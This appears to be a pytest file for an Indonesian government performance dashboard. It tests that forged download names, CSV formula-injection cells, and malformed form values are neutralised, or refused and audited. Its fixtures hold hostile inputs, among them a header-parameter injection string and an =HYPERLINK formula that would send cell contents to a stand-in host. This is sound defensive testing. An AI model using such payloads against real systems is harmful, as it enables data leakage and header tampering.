"""Hostile values a person can type or send, second pass: download names that try to add a header parameter, CSV
cells that try to start a formula, a year or a version that is not a number (refused before anything is written, never
a 500 after a commit), and refusals inside the workflow each audited once through the one place."""
from __future__ import annotations

import re

from sqlmodel import select

from models.db import session_scope
from models.tables import Kecamatan, Sop, SopRevisi
from tests.conftest import masuk
from tests.fabrik import nama_pengguna

NAMA_PALSU = "Renja2\";filename*=UTF-8''laporan.html;x=\""


def _satu_nama_berkas(header: str, ekstensi: str) -> str:
    """The header names the file exactly once, as a slug of letters, digits and dashes with `ekstensi`."""
    assert len(re.findall(r";\s*filename\*?\s*=", header, flags=re.IGNORECASE)) == 1, header
    cocok = re.fullmatch(r"(attachment|inline); filename=([a-z0-9-]+\." + ekstensi + ")", header)
    assert cocok is not None, header
    return cocok.group(2)


def test_a_forged_sop_name_gives_one_filename_parameter_a_slug(client, demo):
    with session_scope(demo) as s:
        sop = s.exec(select(Sop).join(Kecamatan, Kecamatan.id == Sop.kecamatan_id)
                     .where(Kecamatan.nama == "Poncokusumo").order_by(Sop.id)).first()
        for rev in s.exec(select(SopRevisi).where(SopRevisi.sop_id == sop.id)).all():
            rev.nama = NAMA_PALSU
            s.add(rev)
        sop_id = sop.id
    masuk(client, nama_pengguna("camat"))
    for ekstensi in ("docx", "pdf"):
        r = client.get(f"/cetak/sop/{sop_id}.{ekstensi}")
        assert r.status_code == 200
        nama = _satu_nama_berkas(r.headers["Content-Disposition"], ekstensi)
        assert nama.startswith("sop-poncokusumo-renja2-filename-utf-8-laporan-html-x-revisi-")


def test_a_forged_attachment_name_is_sent_as_one_slug_with_its_own_extension(client, app, demo):
    from dashboard.data import pengaturan
    from models.tables import Lampiran

    with session_scope(demo) as s:
        kec = s.exec(select(Kecamatan).where(Kecamatan.nama == "Poncokusumo")).one()
        with app.server.app_context():
            folder = pengaturan().upload_dir
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "uji-nama-palsu.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
        lam = Lampiran(pemilik_jenis="realisasi", pemilik_id=1, kecamatan_id=kec.id, nama_berkas=NAMA_PALSU + ".pdf",
                       jenis="application/pdf", ukuran=15, lokasi="uji-nama-palsu.pdf")
        s.add(lam)
        s.flush()
        lam_id = lam.id
    masuk(client, nama_pengguna("camat"))
    r = client.get(f"/lampiran/{lam_id}")
    assert r.status_code == 200
    assert _satu_nama_berkas(r.headers["Content-Disposition"], "pdf") == \
        "renja2-filename-utf-8-laporan-html-x.pdf"


# ---------------------------------------------------------------- CSV: no cell a spreadsheet can split off starts a formula

PEMICU = ("=", "+", "-", "@", "\t", "\r")
REKOMENDASI_CSV = ['Catatan,=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "Catatan;+1+1", "Catatan\t-2+3",
                   'Catatan\n@SUM(A1:A2)', 'Catatan, "=1+1"', "Catatan,\t=1+1", "=awal"]


def _bagian_berbahaya(sel: str) -> bool:
    """A cell (or a part of one) a spreadsheet would read as a formula: it starts, after spaces and quotes, with a
    formula's first character, and is not a plain number."""
    isi = sel.lstrip(' "')
    return isi.startswith(PEMICU) and re.fullmatch(r"[-+]?[\d.,]+", isi.strip()) is None


def test_a_csv_download_read_with_comma_semicolon_or_split_naively_starts_no_formula(client, demo):
    import csv
    import io
    from datetime import date

    from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
    from tests.fabrik import kantor, pengguna

    with session_scope(demo) as s:
        catat_evaluasi_lengkap(s, kecamatan_id=kantor(s).id, jenis="evaluasi", tahun=2025, triwulan=2,
                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=pengguna(s, peran="tim"),
                               rekomendasi=[RekomendasiBaru(t, "kasi_pem", date(2025, 8, 30)) for t in REKOMENDASI_CSV])
    masuk(client, nama_pengguna("camat"))
    teks = client.get("/unduh/tl-daftar.csv?tahun=2025&triwulan=2").data.decode("utf-8-sig")
    baris = list(csv.reader(io.StringIO(teks), delimiter=";"))
    kolom = baris[0].index("Rekomendasi")
    # Every text field is quoted; read as written, each recommendation comes back whole, only its parts neutralised.
    assert all(b.startswith('"') for b in teks.split("\r\n") if b)
    dibaca = sorted(b[kolom] for b in baris[1:])
    assert dibaca == sorted([
        "Catatan,'=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\")", "Catatan;'+1+1", "Catatan\t'-2+3",
        "Catatan\n'@SUM(A1:A2)", "Catatan, \"'=1+1\"", "Catatan,'\t'=1+1", "'=awal"])
    for pemisah in (",", ";", "\t"):
        for b in csv.reader(io.StringIO(teks), delimiter=pemisah):
            assert not [sel for sel in b if _bagian_berbahaya(sel)], (pemisah, b)
    for bagian in re.split(r"[,;\t\r\n]", teks):  # a reader that splits on every separator and line, quotes or not
        assert not _bagian_berbahaya(bagian), bagian


# ---------------------------------------------------------------- inputs refused before the transaction, never a 500 after it

def _panggil(client, app, modul: str, fungsi: str, pemicu: str | None = None, **nilai):
    """POST the callback `modul.fungsi` as the browser does (when `pemicu`, a button id, was clicked)."""
    from tests.dash_util import daftar_callback, payload

    kunci, cb = next((k, v) for k, v in daftar_callback(app).items()
                     if v["callback"].__module__ == modul and v["callback"].__name__ == fungsi)
    badan = payload(kunci, cb, nilai)
    if pemicu:
        badan["changedPropIds"] = [f"{pemicu}.n_clicks"]
    return client.post("/_dash-update-component", json=badan)


def _ditolak_tanpa_tulisan(demo, panggil, pesan: str) -> None:
    """The request answers 200 with `pesan` on screen, writes nothing, and audits one refusal."""
    from models.tables import AuditLog
    from tests.dash_util import sidik_basis_data, teks_jawaban

    def jumlah_audit():
        with session_scope(demo) as s:
            return [a.aksi for a in s.exec(select(AuditLog).order_by(AuditLog.id)).all()]

    sidik, audit = sidik_basis_data(demo), jumlah_audit()
    r = panggil()
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    assert pesan in teks_jawaban(r)
    assert sidik_basis_data(demo) == sidik
    assert jumlah_audit()[len(audit):] == ["aksi.ditolak"]


import pytest  # noqa: E402


@pytest.mark.parametrize("isian,pesan", [
    ({"tahun": "abc"}, "Tahun harus bilangan bulat."),
    ({"tahun": "9" * 5000}, "Tahun harus bilangan bulat."),
    ({"tahun": 1999}, "Tahun tidak sah."),
    ({"triwulan": "abc"}, "Triwulan harus bilangan bulat."),
    ({"triwulan": 5}, "Triwulan di luar batas (1 sampai 4)."),
    ({"peserta": ["Camat"]}, "Peserta tidak sah."),
    ({"isian": {"a": 1}}, "Rekomendasi 1: Teks rekomendasi tidak sah."),  # the first row's text (by position)
])
def test_the_evaluation_form_refuses_a_year_or_field_that_is_not_one_and_writes_nothing(client, app, demo, isian,
                                                                                         pesan):
    masuk(client, nama_pengguna("kasubag_evapor"))
    client.get("/tindak-lanjut")
    nilai = {"jenis": "evaluasi", "tahun": 2026, "triwulan": 3, "tanggal": "20/11/2026", "peserta": "Camat, Tim",
             "temuan": "Adminduk di bawah target", "berita_acara": None, **isian}
    _ditolak_tanpa_tulisan(demo, lambda: _panggil(client, app, "callbacks.tindak_lanjut", "simpan_evaluasi",
                                                  "tl-ev-simpan", **nilai), pesan)


PESAN_VERSI = "Versi halaman harus bilangan bulat."


def test_buat_pengguna_with_a_version_that_is_not_a_number_creates_no_user(client, app, demo):
    with session_scope(demo) as s:
        kec_id = s.exec(select(Kecamatan.id).where(Kecamatan.nama == "Poncokusumo")).one()
    masuk(client, "admin")
    client.get("/pengguna")
    _ditolak_tanpa_tulisan(demo, lambda: _panggil(
        client, app, "callbacks.pengguna", "buat", "baru-simpan", username="staf9.poncokusumo", nama="Staf Sembilan",
        peran="staf", kantor=f"kec:{kec_id}", sandi="Rahasia-Panjang-2026!", versi="abc"), PESAN_VERSI)


def test_pengguna_simpan_with_a_version_that_is_not_a_number_changes_nothing(client, app, demo):
    from models.tables import User

    with session_scope(demo) as s:
        u = s.exec(select(User).where(User.username == nama_pengguna("staf"))).one()
        user_id, kantor = u.id, f"kec:{u.kecamatan_id}"
    masuk(client, "admin")
    client.get("/pengguna")
    _ditolak_tanpa_tulisan(demo, lambda: _panggil(
        client, app, "callbacks.pengguna", "simpan", "kelola-simpan", user_id=user_id, peran="staf", kantor=kantor,
        aktif=True, sandi=None, versi="abc", nip="", jabatan="Pengelola data"), PESAN_VERSI)


def test_hari_libur_tambah_with_a_version_that_is_not_a_number_adds_no_day_off(client, app, demo):
    masuk(client, "admin")
    client.get("/hari-libur")
    _ditolak_tanpa_tulisan(demo, lambda: _panggil(
        client, app, "callbacks.hari_libur", "tambah", "libur-simpan", tanggal="17/12/2026",
        keterangan="Hari jadi kabupaten", versi="abc"), PESAN_VERSI)


# ---------------------------------------------------------------- refusals inside the workflow: one audited place

@pytest.mark.parametrize("tombol,aksi", [("tugas-setuju", "langkah.setujui"), ("tugas-mulai", "langkah.mulai_kerjakan"),
                                         ("tugas-kembali", "langkah.kembalikan")])
def test_a_staf_approving_starting_or_returning_another_roles_step_is_refused_and_audited_once(client, app, demo,
                                                                                             tombol, aksi):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from models.perencanaan.pekerjaan import mulai_pekerjaan
    from models.sop.alur import catatan_terbuka
    from models.tables import AuditLog
    from tests.dash_util import sidik_basis_data, teks_jawaban
    from tests.fabrik import pengguna, sop

    with session_scope(demo) as s:
        camat, staf = pengguna(s, peran="camat"), pengguna(s, peran="staf")
        renja = sop(s, nama="Penyusunan Rencana Kerja (Renja)")
        eks = mulai_pekerjaan(s, sop_id=renja.id, judul="Renja 2027", tahun=2027, triwulan=None, oleh=camat,
                              pada=datetime(2026, 11, 20, 2, 0, tzinfo=ZoneInfo("UTC")))
        rec = catatan_terbuka(s, eks.id)
        assert rec is not None and rec.role_kode != "staf"
        rec_id, staf_id, kec_id = rec.id, staf.id, eks.kecamatan_id
    masuk(client, nama_pengguna("staf"))
    assert nama_pengguna("staf") == "staf.poncokusumo"
    client.get("/persetujuan")
    sidik = sidik_basis_data(demo)
    with session_scope(demo) as s:
        n_audit = len(s.exec(select(AuditLog)).all())
    r = _panggil(client, app, "callbacks.persetujuan", "bertindak", tombol, catatan_id=rec_id, alasan="Belum lengkap")
    teks = teks_jawaban(r)
    assert "Langkah ini menunggu pelaksana lain" in teks, teks
    assert sidik_basis_data(demo) == sidik
    with session_scope(demo) as s:
        baru = s.exec(select(AuditLog).order_by(AuditLog.id)).all()[n_audit:]
    assert [(a.aksi, a.user_id, a.kecamatan_id, a.objek, a.objek_id, a.sesudah) for a in baru] == [
        ("aksi.ditolak", staf_id, kec_id, "catatan_langkah", rec_id, {"aksi": aksi})]


@pytest.mark.parametrize("peran,modul,fungsi,pemicu,nilai,pesan", [
    ("admin", "callbacks.sop", "simpan", "koreksi-simpan", {"label": ["Sub. Umum"]}, "Pilih langkah yang akan dikoreksi."),
    ("staf", "callbacks.persetujuan", "bertindak", "tugas-selesai", {}, "Pilih langkah terlebih dahulu."),
    ("staf", "callbacks.tindak_lanjut", "bertindak", "tl-akui", {}, "Pilih rekomendasi terlebih dahulu."),
    ("admin", "callbacks.hari_libur", "hapus", "libur-konfirmasi-ya", {"versi": 1},
     "Pilih libur lokal yang akan dihapus."),
])
def test_a_write_asked_for_without_its_record_is_refused_through_the_one_audited_place(client, app, demo, peran,
                                                                                      modul, fungsi, pemicu, nilai,
                                                                                      pesan):
    masuk(client, nama_pengguna(peran))
    client.get("/")
    _ditolak_tanpa_tulisan(demo, lambda: _panggil(client, app, modul, fungsi, pemicu, **nilai), pesan)


def _kasus_tulis(demo) -> dict:
    """Ids the hostile write requests below name: the office's Renja SOP, its IKU-1, a running Renja's open step."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from models.perencanaan.pekerjaan import mulai_pekerjaan
    from models.sop.alur import catatan_terbuka
    from tests.fabrik import indikator, pengguna, sop

    with session_scope(demo) as s:
        renja = sop(s, nama="Penyusunan Rencana Kerja (Renja)")
        eks = mulai_pekerjaan(s, sop_id=renja.id, judul="Renja 2027", tahun=2027, triwulan=None,
                              oleh=pengguna(s, peran="camat"), pada=datetime(2026, 11, 20, 2, 0, tzinfo=ZoneInfo("UTC")))
        return {"sop": renja.id, "iku": indikator(s, kode="IKU-1").id, "langkah": catatan_terbuka(s, eks.id).id}


@pytest.mark.parametrize("peran,modul,fungsi,pemicu,nilai,pesan", [
    ("camat", "callbacks.pekerjaan", "mulai", "pekerjaan-mulai",
     {"sop_id": "sop", "judul": ["Renja"], "tahun": 2027, "triwulan": 0}, "Judul tidak sah."),
    ("camat", "callbacks.pekerjaan", "mulai", "pekerjaan-mulai",
     {"sop_id": "sop", "judul": "Renja 2027", "tahun": 2027, "triwulan": "abc"}, "Triwulan harus bilangan bulat."),
    ("camat", "callbacks.persetujuan", "bertindak", "tugas-selesai",
     {"catatan_id": "langkah", "alasan": {"a": 1}}, "Catatan tidak sah."),
    ("camat", "callbacks.persetujuan", "bertindak", "tugas-selesai",
     {"catatan_id": "langkah", "alasan": "x", "bukti": 7}, "Kelengkapan yang dicentang tidak sah."),
    ("camat", "callbacks.realisasi", "simpan", "real-simpan",
     {"indikator_id": "iku", "periode": {"tahun": 2026, "triwulan": 3}, "pembilang": "10", "penyebut": "20",
      "catatan": ["x"]}, "Catatan tidak sah."),
    ("camat", "callbacks.realisasi", "simpan", "real-simpan",
     {"indikator_id": "iku", "periode": {"tahun": 2026, "triwulan": 3}, "pembilang": 10**400, "penyebut": "20"},
     "bukan angka"),
    ("camat", "callbacks.monitoring_sop", "simpan_monitoring", None,
     {"sop_id": "sop", "periode": "2026-2", "baik": ["ya"], "catatan": ["x"]}, "Catatan tidak sah."),
    ("admin", "callbacks.kalender_sakip", "simpan", "jadwal-simpan",
     {"kabupaten": 1, "kewajiban": "renja", "sop": ["Renja"], "versi": 1}, "Nama SOP tidak sah."),
    ("camat", "callbacks.laporan_kinerja", "simpan", "lkj-simpan",
     {"nilai": "profil", "isi": ["Profil kecamatan"], "tahun": 2026, "versi": 1}, "Teks tidak sah."),
    ("camat", "callbacks.iku", "simpan", "target-simpan",
     {"indikator_id": "iku", "tahun": 2026, "nilai": "90", "alasan": {"a": 1}}, "Alasan tidak sah."),
    ("camat", "callbacks.perjanjian_kinerja", "simpan_kegiatan", "ra-simpan",
     {"indikator_id": "iku", "triwulan": 1, "pelaksana": "kasi_pem", "kegiatan": ["Rapat"], "tahun": 2026,
      "versi": 1}, "Kegiatan tidak sah."),
    ("camat", "callbacks.anggaran", "simpan", "anggaran-simpan",
     {"tahun": 2026, "kode_program": "1.01", "program": "Program uji", "kode_kegiatan": "1.01.01",
      "kegiatan": ["Kegiatan uji"], "kode_sub_kegiatan": "1.01.01.001", "sub_kegiatan": "Sub uji", "pagu": "1000"},
     "Kegiatan tidak sah."),
    ("evaluator", "callbacks.rekomendasi_lhe", "simpan", "lhe-rek-simpan", {"evaluasi_akip_id": "abc"},
     "Evaluasi AKIP harus bilangan bulat."),
    ("admin", "callbacks.pengaturan_kabupaten", "simpan", "pengaturan-simpan",
     {"kabupaten": 2**63, "bupati": "Bupati Uji", "versi": 1}, "Pilih kabupaten yang diatur."),
    ("camat", "callbacks.laporan_kinerja", "tanda_tangani", "lkj-ttd",
     {"tahun": 2026, "tanggal": "1 Desember 2026", "isi": ["data:application/pdf;base64,JVBERg=="],
      "nama": "lkj.pdf", "versi": 1}, "Berkas tidak terbaca; coba unggah lagi."),
])
def test_a_write_with_a_field_of_the_wrong_kind_is_refused_before_its_transaction(client, app, demo, peran, modul,
                                                                                  fungsi, pemicu, nilai, pesan):
    ident = _kasus_tulis(demo)
    nilai = {k: ident[v] if k in ("sop_id", "indikator_id", "catatan_id") else v for k, v in nilai.items()}
    masuk(client, "inspektorat.malang" if peran == "evaluator" else nama_pengguna(peran))
    client.get("/")
    _ditolak_tanpa_tulisan(demo, lambda: _panggil(client, app, modul, fungsi, pemicu, **nilai), pesan)


def test_the_evaluasi_akip_recap_with_a_5000_digit_year_asks_for_the_year(client, app, demo):
    from tests.dash_util import teks_jawaban

    masuk(client, "kabupaten.malang")
    client.get("/")
    r = _panggil(client, app, "callbacks.rekap_akip", "tampil", None, kabupaten=1, tahun="9" * 5000)
    assert "Pilih tahunnya." in teks_jawaban(r)
